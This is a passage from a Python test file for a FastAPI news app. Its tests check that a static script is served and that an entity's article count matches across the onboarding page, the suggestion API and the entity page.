    assert scripts == [{"src": "/static/tidings.js", "defer": None}]
    script = client.get("/static/tidings.js")
    assert script.status_code == 200 and "X-Tidings-In-Place" in script.text


def test_a_names_article_count_agrees_on_every_page(app: FastAPI) -> None:
    """One count of the articles naming someone: onboarding's "(N)", the suggestion's "N
    articles", the entity page's "named in N articles" and the articles it lists."""
    client = browser(app)
    sign_up(client)
    onboarding = client.get("/onboarding").text
    found = re.search(r'name="entity" value="(\d+)"> Xi Jinping <span[^>]*>\((\d+)\)', onboarding)
    assert found, onboarding
    entity_id, count = found.group(1), int(found.group(2))
    suggested = client.get("/api/suggest", params={"q": "xi"}).json()[0]
    assert (suggested["value"], suggested["articles"]) == (entity_id, count)
    assert suggested["detail"].endswith(f"{count} article{'' if count == 1 else 's'}")
    page = client.get(f"/entities/{entity_id}").text
    words = f"named in {count} article{'' if count == 1 else 's'}"
    assert words in page
    listed = page.split("<h2>Latest articles</h2>")[1].split("</ul>")[0].count('class="row')
    assert listed == count  # fewer than a page of them here
